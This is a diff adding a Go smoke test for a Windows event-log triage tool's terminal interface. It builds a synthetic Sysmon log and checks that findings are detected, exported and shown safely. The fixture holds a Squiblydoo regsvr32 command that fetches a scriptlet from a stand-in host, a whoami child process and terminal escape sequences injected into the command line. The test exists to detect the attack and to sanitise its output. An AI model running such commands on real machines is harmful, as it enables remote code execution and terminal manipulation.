@@ -1,0 +1,148 @@
+package tui
+
+import (
+	"bytes"
+	"context"
+	"io"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	tea "charm.land/bubbletea/v2"
+
+	"github.com/evtriage/evtriage/parser"
+	"github.com/evtriage/evtriage/rules"
+	"github.com/evtriage/evtriage/triage"
+)
+
+// syncBuffer is an io.Writer safe to read while the program writes.
+type syncBuffer struct {
+	mu sync.Mutex
+	b  bytes.Buffer
+}
+
+func (s *syncBuffer) Write(p []byte) (int, error) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.b.Write(p)
+}
+
+func (s *syncBuffer) String() string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.b.String()
+}
+
+// writeLog writes a small Sysmon log with a Squiblydoo regsvr32 (whose
+// command line carries escape sequences) and its cmd.exe child.
+func writeLog(t *testing.T, path string) {
+	t.Helper()
+	f, err := os.Create(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	w := parser.NewWriter(f)
+	at := time.Date(2026, 3, 2, 8, 0, 0, 0, time.UTC)
+	mk := func(rec uint64, sec int, kv ...string) *parser.Event {
+		ev := &parser.Event{RecordID: rec, Time: at.Add(time.Duration(sec) * time.Second), Written: at,
+			Provider: "Microsoft-Windows-Sysmon", ProviderGUID: "5770385F-C22A-43E0-BF4C-06F5698FFBD9",
+			Channel: "Microsoft-Windows-Sysmon/Operational", Computer: "WS01", EventID: 1, Version: 5, Level: 4,
+			Task: 1, Keywords: 0x8000000000000000, ProcessID: 1880, ThreadID: 2020, UserID: "S-1-5-18"}
+		for i := 0; i+1 < len(kv); i += 2 {
+			ev.Fields = append(ev.Fields, parser.Field{Name: kv[i], Value: kv[i+1]})
+		}
+		return ev
+	}
+	for _, ev := range []*parser.Event{
+		mk(100, 0, "ProcessGuid", "{365ABB72-0000-0000-0000-000000000001}", "ProcessId", "1420",
+			"Image", `C:\Windows\System32\regsvr32.exe`, "OriginalFileName", "REGSVR32.EXE",
+			"CommandLine", "regsvr32.exe /s /u /i:http://evil.example/a.sct \x1b]0;pwned\x07\x1b[2J scrobj.dll",
+			"CurrentDirectory", `C:\Users\Public\`, "User", `WS01\alice`,
+			"ParentProcessGuid", "{365ABB72-0000-0000-0000-000000000000}", "ParentProcessId", "3528",
+			"ParentImage", `C:\Windows\System32\cmd.exe`, "ParentCommandLine", "cmd.exe"),
+		mk(101, 1, "ProcessGuid", "{365ABB72-0000-0000-0000-000000000002}", "ProcessId", "2340",
+			"Image", `C:\Windows\System32\cmd.exe`, "OriginalFileName", "Cmd.Exe", "CommandLine", "cmd.exe /c whoami",
+			"CurrentDirectory", `C:\Users\Public\`, "User", `WS01\alice`,
+			"ParentProcessGuid", "{365ABB72-0000-0000-0000-000000000001}", "ParentProcessId", "1420",
+			"ParentImage", `C:\Windows\System32\regsvr32.exe`, "ParentCommandLine", "regsvr32.exe /s /u /i:http://evil.example/a.sct scrobj.dll"),
+	} {
+		if err := w.Write(ev); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// TestProgramSmoke runs the whole program — tea.Program, background
+// loading through triage.Hunter, the built-in rules — on pipes, sends keys
+// and checks what it wrote, the export, and that q ends it cleanly.
+func TestProgramSmoke(t *testing.T) {
+	dir := t.TempDir()
+	logPath := filepath.Join(dir, "ws01.evtx")
+	writeLog(t, logPath)
+	out := &syncBuffer{}
+	inR, inW := io.Pipe()
+	defer inW.Close()
+	cfg := Config{
+		Title:     logPath,
+		Inputs:    []Input{{Name: logPath, Path: logPath}},
+		Hunt:      triage.Options{Rules: rules.Load(rules.LoadOptions{})},
+		ExportDir: dir,
+		Now:       func() time.Time { return time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC) },
+	}
+	done := make(chan error, 1)
+	go func() {
+		done <- Run(context.Background(), cfg, inR, out, tea.WithWindowSize(100, 30), tea.WithoutSignals())
+	}()
+	waitFor := func(what string, cond func() bool) {
+		t.Helper()
+		deadline := time.Now().Add(20 * time.Second)
+		for !cond() {
+			if time.Now().After(deadline) {
+				t.Fatalf("gave up waiting for %s; output so far:\n%q", what, out.String())
+			}
+			time.Sleep(20 * time.Millisecond)
+		}
+	}
+	waitFor("the loaded log", func() bool { return strings.Contains(out.String(), "ready") })
+	exported := filepath.Join(dir, "evtriage-findings-20260302-090000.json")
+	for _, k := range []string{"2", "f", "1", "e"} {
+		if _, err := io.WriteString(inW, k); err != nil {
+			t.Fatal(err)
+		}
+	}
+	waitFor("the export", func() bool { _, err := os.Stat(exported); return err == nil })
+	if _, err := io.WriteString(inW, "q"); err != nil {
+		t.Fatal(err)
+	}
+	select {
+	case err := <-done:
+		if err != nil {
+			t.Fatalf("Run: %v", err)
+		}
+	case <-time.After(20 * time.Second):
+		t.Fatal("q did not end the program")
+	}
+	got := out.String()
+	for _, want := range []string{"evtriage", "Findings", "regsvr32.exe", `\x1b]0;pwned\x07`} {
+		if !strings.Contains(got, want) {
+			t.Errorf("output lacks %q", want)
+		}
+	}
+	if strings.Contains(got, "\x1b]0;pwned") || strings.Contains(got, "\x1b[2J scrobj") {
+		t.Error("an escape sequence from the evidence reached the terminal")
+	}
+	data, err := os.ReadFile(exported)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !bytes.Contains(data, []byte(`"findings"`)) || !bytes.Contains(data, []byte("regsvr32.exe")) {
+		t.Errorf("export lacks the findings:\n%s", data)
+	}
+}
